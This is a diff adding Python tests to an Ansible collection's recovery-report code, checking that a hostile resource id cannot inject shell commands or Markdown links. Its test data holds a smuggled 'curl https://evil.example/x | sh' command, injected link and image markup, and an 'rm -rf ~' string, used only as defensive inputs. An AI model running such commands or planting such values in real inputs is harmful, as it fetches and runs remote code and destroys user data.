@@ -1,3 +1,9 @@
+import re
+import shlex
+from html import escape as html_escape
+
+import markdown_it
+
 from ansible_collections.geusemaker.stack.plugins.module_utils import kinds, recovery
 from ansible_collections.geusemaker.stack.plugins.module_utils.ledger import Ledger
 
@@ -152,3 +158,29 @@ def test_the_report_shows_every_kinds_link_and_command(store):
         assert "- {0} {1} (present)".format(resource_type, entry["id"]) in text
         assert "  - console: " + CONSOLE + console + "\n" in text + "\n", resource_type
         assert "  - delete: `" + command in text, resource_type
+
+
+def test_a_hostile_state_cannot_turn_the_report_into_commands_or_links(store):
+    # Whoever can write the state writes the ids: they stay one shell word each, and plain text in the Markdown.
+    ledger = Ledger.open(store, "s1", "eu-west-1", persist=False)
+    hostile = "vpc-1; curl https://evil.example/x | sh #`[link](https://evil.example)`<img src=x>"
+    ledger.record("vpc", hostile, "created")
+    ledger.set_status("failed", failure={"task": "t", "error_message": "[click](https://evil.example) `rm -rf ~`",
+                                         "critical": True, "at": "2026-01-01T00:00:00Z"})
+    [hint] = recovery.hints(ledger.document)
+    assert shlex.split(hint["command"]) == ["aws", "ec2", "delete-vpc", "--region", "eu-west-1", "--vpc-id", hostile]
+    assert hint["console"].startswith("https://eu-west-1.console.aws.amazon.com/vpcconsole/home?region=eu-west-1#VpcDetails:VpcId=vpc-1%3B%20curl")
+    assert [c for c in " `<>[]|;#" if c in hint["console"].split("#", 1)[1]] == []
+    text = "\n".join(recovery.report(ledger.document, "/state/s1.json"))
+    html = markdown_it.MarkdownIt("commonmark").render(text)
+    assert "<a " not in html and "<img" not in html
+    assert "<code>rm -rf ~</code>" not in html  # the error's backticks are text, not a code span
+    [delete_span] = [line for line in text.splitlines() if line.startswith("  - delete: ")]
+    assert re.findall(r"<code>(.*?)</code>", markdown_it.MarkdownIt("commonmark").render(delete_span))[0] == \
+        html_escape(hint["command"], quote=False)
+
+
+def test_a_code_span_holds_any_backticks():
+    assert recovery.md_code("a b") == "`a b`"
+    assert recovery.md_code("x `y` ``z``") == "``` x `y` ``z`` ```"
+    assert recovery.md_code("a\nb") == "`a b`"
